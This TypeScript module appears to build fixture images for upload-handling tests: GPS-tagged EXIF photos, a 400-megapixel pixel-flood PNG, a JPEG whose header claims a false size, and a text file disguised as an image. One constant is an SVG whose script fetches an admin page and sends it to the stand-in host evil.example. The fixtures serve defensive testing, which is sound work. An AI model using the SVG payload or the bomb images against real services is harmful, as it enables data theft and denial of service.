// Images for the upload tests and the benchmark, made on the spot: photos with EXIF (orientation and
// GPS position), a pixel flood, a JPEG whose header lies about its size, an SVG with a script, and
// text dressed up as an image.
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** A photo-like JPEG: a warm gradient with grain, so it compresses like a real photo. */
export async function photoJpeg(width: number, height: number, quality = 85, sigma = 30): Promise<Buffer> {
  const gradient = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
      <defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
        <stop offset="0" stop-color="#f4a72a"/><stop offset="0.5" stop-color="#b5452b"/><stop offset="1" stop-color="#4a2a12"/>
      </linearGradient></defs>
      <rect width="100%" height="100%" fill="url(#g)"/>
      <circle cx="${width / 2}" cy="${height / 2}" r="${Math.min(width, height) / 3}" fill="#fbe6b8" opacity="0.8"/>
    </svg>`,
  )
  const grain = await sharp({
    create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma } },
  })
    .png()
    .toBuffer()
  return sharp(gradient, { limitInputPixels: false })
    .composite([{ input: grain, blend: 'overlay' }])
    .jpeg({ quality })
    .toBuffer()
}

/** EXIF (little-endian TIFF) with an orientation and a GPS position: Sarafa Bazaar, Indore. */
function exifSegment(orientation: number): Buffer {
  const tiff = Buffer.alloc(140)
  tiff.write('II', 0, 'latin1')
  tiff.writeUInt16LE(42, 2)
  tiff.writeUInt32LE(8, 4)
  const entry = (at: number, tag: number, type: number, count: number, value: number) => {
    tiff.writeUInt16LE(tag, at)
    tiff.writeUInt16LE(type, at + 2)
    tiff.writeUInt32LE(count, at + 4)
    if (type === 3) tiff.writeUInt16LE(value, at + 8)
    else tiff.writeUInt32LE(value, at + 8)
  }
  // IFD0 at 8: Orientation, and the pointer to the GPS IFD at 38.
  tiff.writeUInt16LE(2, 8)
  entry(10, 0x0112, 3, 1, orientation)
  entry(22, 0x8825, 4, 1, 38)
  // GPS IFD at 38: N 22° 43' 8", E 75° 51' 25"; the rationals follow at 92 and 116.
  tiff.writeUInt16LE(4, 38)
  entry(40, 0x0001, 2, 2, 0)
  tiff.write('N', 48, 'latin1')
  entry(52, 0x0002, 5, 3, 92)
  entry(64, 0x0003, 2, 2, 0)
  tiff.write('E', 72, 'latin1')
  entry(76, 0x0004, 5, 3, 116)
  const rationals = [22, 43, 8, 75, 51, 25]
  rationals.forEach((value, i) => {
    tiff.writeUInt32LE(value, 92 + i * 8)
    tiff.writeUInt32LE(1, 96 + i * 8)
  })
  const header = Buffer.from('Exif\0\0', 'latin1')
  const length = Buffer.alloc(2)
  length.writeUInt16BE(2 + header.length + tiff.length)
  return Buffer.concat([Buffer.from([0xff, 0xe1]), length, header, tiff])
}

/** A JPEG as a phone writes it: where it was taken (GPS) and how it was held (orientation 6: turned right). */
export async function phonePhotoWithGps(width = 800, height = 600): Promise<Buffer> {
  const jpeg = await photoJpeg(width, height)
  return Buffer.concat([jpeg.subarray(0, 2), exifSegment(6), jpeg.subarray(2)])
}

/** Whether EXIF (as sharp's metadata gives it, 'Exif\0\0' + TIFF) points at a GPS IFD. */
export function exifHasGps(exif: Buffer | undefined): boolean {
  if (!exif) return false
  const tiff = exif.subarray(exif.indexOf('II*\0', 0, 'latin1'))
  if (tiff.length < 8) return false
  const ifd = tiff.readUInt32LE(4)
  const entries = tiff.readUInt16LE(ifd)
  for (let i = 0; i < entries; i++) if (tiff.readUInt16LE(ifd + 2 + i * 12) === 0x8825) return true
  return false
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(body) >>> 0)
  return Buffer.concat([length, body, crc])
}

/**
 * A pixel flood: a valid black-and-white PNG of 20000 x 20000 pixels (400 megapixels) that is only
 * some 50 KB, because a blank picture compresses to almost nothing.
 */
export function pixelFloodPng(width = 20_000, height = 20_000): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1 // one bit per pixel
  header[9] = 0 // greyscale
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** A small JPEG whose frame header claims 60000 x 60000 pixels: a decompression bomb's promise. */
export async function lyingJpeg(): Promise<Buffer> {
  const jpeg = Buffer.from(await photoJpeg(64, 64))
  for (let i = 2; i < jpeg.length - 9; ) {
    const marker = jpeg[i + 1]!
    // SOF0..SOF2: height and width follow the length and the precision.
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpeg.writeUInt16BE(60_000, i + 5)
      jpeg.writeUInt16BE(60_000, i + 7)
      return jpeg
    }
    i += 2 + jpeg.readUInt16BE(i + 2)
  }
  throw new Error('no frame header found')
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="640" height="480">' +
    '<script>fetch("/admin/stats").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script>' +
    '<rect width="640" height="480" fill="orange"/></svg>',
)

export const TEXT_FILE = Buffer.from('Ratlami sev, 250g: ₹80. Not a picture, whatever its name says.\n'.repeat(20))

/** A PNG of colour noise just over `bytes` long (noise does not compress). */
export async function noisePng(bytes: number): Promise<Buffer> {
  const side = Math.ceil(Math.sqrt(bytes / 3)) + 8
  return sharp({
    create: {
      width: side,
      height: side,
      channels: 3,
      background: '#000',
      noise: { type: 'gaussian', mean: 128, sigma: 90 },
    },
  })
    .png({ compressionLevel: 1 })
    .toBuffer()
}

export async function smallPng(width = 400, height = 300): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 200, g: 80, b: 20, alpha: 0.6 } } })
    .png()
    .toBuffer()
}

/** A two-frame animated GIF. */
export async function animatedGif(width = 500, height = 400): Promise<Buffer> {
  const frame = (colour: string) =>
    sharp({ create: { width, height, channels: 3, background: colour } })
      .raw()
      .toBuffer()
  const frames = Buffer.concat([await frame('#f4a72a'), await frame('#b5452b')])
  return sharp(frames, { raw: { width, height: height * 2, channels: 3, pageHeight: height } })
    .gif({ delay: [200, 200] })
    .toBuffer()
}
